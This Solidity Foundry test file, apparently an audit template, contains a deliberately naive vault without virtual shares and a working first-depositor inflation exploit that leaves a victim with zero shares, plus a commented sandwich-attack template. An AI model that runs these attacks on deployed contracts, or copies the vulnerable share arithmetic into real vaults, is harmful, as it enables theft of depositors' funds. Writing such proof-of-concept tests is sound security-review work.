// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Test, console2} from "forge-std/Test.sol";
import {ERC20} from "openzeppelin-contracts/token/ERC20/ERC20.sol";

/// Adapt: replace NaiveVault with the contract under review.
contract MockToken is ERC20 {
    constructor() ERC20("Mock", "MCK") {}
    function mint(address to, uint256 amt) external { _mint(to, amt); }
}

/// Deliberately naive vault: totalAssets() is the raw token balance, no virtual shares.
contract NaiveVault {
    ERC20 public immutable asset;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    constructor(ERC20 a) { asset = a; }

    function totalAssets() public view returns (uint256) { return asset.balanceOf(address(this)); }

    function deposit(uint256 assets) external returns (uint256 shares) {
        uint256 supply = totalSupply;
        shares = supply == 0 ? assets : assets * supply / totalAssets();
        asset.transferFrom(msg.sender, address(this), assets);
        totalSupply += shares;
        balanceOf[msg.sender] += shares;
    }

    function redeem(uint256 shares) external returns (uint256 assets) {
        assets = shares * totalAssets() / totalSupply;
        totalSupply -= shares;
        balanceOf[msg.sender] -= shares;
        asset.transfer(msg.sender, assets);
    }
}

contract FrontRunTest is Test {
    MockToken token;
    NaiveVault vault;
    address victim = makeAddr("victim");
    address attacker = makeAddr("attacker");

    function setUp() public {
        token = new MockToken();
        vault = new NaiveVault(token);
        token.mint(victim, 1_000e18);
        token.mint(attacker, 1_001e18);
        vm.prank(victim);
        token.approve(address(vault), type(uint256).max);
        vm.prank(attacker);
        token.approve(address(vault), type(uint256).max);
    }

    /// Ordering: attacker deposit(1 wei) -> attacker donates -> victim deposit -> attacker redeem
    function testFirstDepositorInflation() public {
        // front-run: attacker sees victim's pending deposit(1_000e18)
        vm.startPrank(attacker);
        vault.deposit(1);
        token.transfer(address(vault), 1_000e18); // donation inflates share price
        vm.stopPrank();

        vm.prank(victim);
        uint256 victimShares = vault.deposit(1_000e18);
        console2.log("victim shares", victimShares);
        assertEq(victimShares, 0, "victim should be rounded down to zero shares");

        // back-run: attacker redeems everything
        vm.prank(attacker);
        vault.redeem(1);
        assertGt(token.balanceOf(attacker), 1_001e18, "attacker profited");
    }

    /// Template for swap-style bugs: attacker moves price, victim swaps, attacker unwinds.
    function testSandwichTemplate() public pure {
        // 1. vm.prank(attacker); router.swapExactTokensForTokens(big, 0, path, attacker, deadline);
        // 2. vm.prank(victim);   target.functionThatSwapsWithoutMinOut(...);
        // 3. vm.prank(attacker); router.swapExactTokensForTokens(back, 0, reversePath, attacker, deadline);
        // 4. assert victim received less than quoted and attacker balance increased.
    }
}
